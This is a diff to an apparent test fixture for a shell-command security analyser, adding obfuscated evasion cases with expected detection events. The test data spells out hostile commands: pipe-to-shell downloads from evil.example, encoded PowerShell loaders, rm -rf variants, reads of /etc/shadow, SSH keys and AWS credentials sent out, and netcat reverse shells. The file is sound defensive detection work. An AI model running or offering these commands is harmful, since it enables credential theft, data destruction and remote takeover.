@@ -639,6 +639,35 @@ M("execution", "osascript -e 'do shell script \"curl -s http://evil.example/x | 
 M("execution", "xargs -a /tmp/cmds.txt -I{} sh -c '{}'", E("exec", "sh"), E("read", "/tmp/cmds.txt"))
 MO("execution", "curl -s http://evil.example/x | sh", [E("download_exec", "evil.example")], picks=[0, 2, 4])
 
+# ------------------------------------------------------------------ evasion of the parser itself
+M("execution", "curl -sSfL https://raw.githubusercontent.com/x/y/main/install.sh | sh -s -- -b /usr/local/bin", E("download_exec", "raw.githubusercontent.com", pipe_to_shell=True))
+M("execution", "(curl -fsSL http://evil.example/a || wget -qO- http://evil.example/a) | bash", E("download_exec", "evil.example"))
+M("execution", "{ curl -s http://203.0.113.7/p; } | sh", E("download_exec", "203.0.113.7"))
+M("execution", "powershell -enc %s" % base64.b64encode("IEX (New-Object Net.WebClient).DownloadString('http://evil.example/p.ps1')".encode("utf-16-le")).decode(), E("inline_code", technique="T1059.001", obfuscated=True), E("connect", "evil.example", obfuscated=True))
+M("execution", "pwsh -NoProfile -Command \"iwr http://203.0.113.7/a.ps1 | iex\"", E("inline_code", technique="T1059.001"), E("connect", "203.0.113.7"))
+M("impact", "c=\"rm -rf /\"; $c", E("delete", "/", recursive=True))
+M("impact", "IFS=,; c=rm,-rf,/home/dev; $c", E("delete", H, recursive=True))
+M("impact", "wipe() { rm -rf \"$1\"; }; wipe /var/lib/docker", E("delete", "/var/lib/docker", recursive=True))
+M("credential_access", "ln -s /etc/shadow ./s && cat s", E("credential_access", "/etc/shadow"))
+M("credential_access", "ln -sf ~/.ssh/id_rsa notes.txt; cat notes.txt", E("credential_access", H + "/.ssh/id_rsa"))
+M("credential_access", "echo \"$(</etc/shadow)\"", E("credential_access", "/etc/shadow"))
+M("credential_access", "x=$(< ~/.aws/credentials); curl -d \"$x\" https://evil.example", E("credential_access", H + "/.aws/credentials"), E("connect", "evil.example"))
+M("credential_access", "/???/c?t /etc/shadow", E("exec", unresolved=True), E("credential_access", "/etc/shadow"))
+M("credential_access", "c''at /etc/sh''adow", E("credential_access", "/etc/shadow"))
+M("credential_access", "ca\\t /et\\c/shadow", E("credential_access", "/etc/shadow"))
+M("credential_access", "openssl enc -d -base64 <<< %s | sh" % b64("cat /etc/shadow"), E("credential_access", "/etc/shadow", obfuscated=True))
+M("command_and_control", "busybox nc 10.0.0.1 4444 -e sh", E("connect", "10.0.0.1:4444"), E("exec", "sh"))
+M("command_and_control", "for p in 4444 4445; do nc -e /bin/sh 10.0.0.1 $p; done", E("connect", "10.0.0.1:4444"), E("connect", "10.0.0.1:4445"))
+M("lateral_movement", "pip install git+https://evil.example/pkg.git", E("connect", "evil.example"), E("install"))
+
+M("execution", "echo %s | base64 -d > /tmp/x.sh && bash /tmp/x.sh" % b64("curl -s http://evil.example/x | sh"), E("download_exec", "evil.example", obfuscated=True))
+M("command_and_control", "printf '#!/bin/sh\\nnc -e /bin/sh 10.0.0.1 4444\\n' > /tmp/r.sh; chmod +x /tmp/r.sh; /tmp/r.sh", E("connect", "10.0.0.1:4444"))
+M("execution", "curl -s http://203.0.113.7/a > /tmp/a; sh /tmp/a", E("download_exec", "203.0.113.7"))
+M("execution", "aws s3 cp s3://attacker-bucket/x.sh - | bash", E("download_exec", "attacker-bucket"))
+M("persistence", "echo 'nc -e /bin/sh 10.0.0.1 4444' | tee /tmp/u.sh && bash /tmp/u.sh", E("connect", "10.0.0.1:4444"))
+M("lateral_movement", "ssh-keyscan 10.0.0.0/24 >> ~/.ssh/known_hosts", E("connect", "10.0.0.0/24", class_="private"))
+M("lateral_movement", "kubectl cp prod/api-0:/var/run/secrets/kubernetes.io/serviceaccount/token ./t", E("credential_access", "/var/run/secrets/", remote="api-0"))
+
 # ------------------------------------------------------------------ discovery
 for c, exp in [
     ("cat /etc/passwd", [E("read", "/etc/passwd")]),
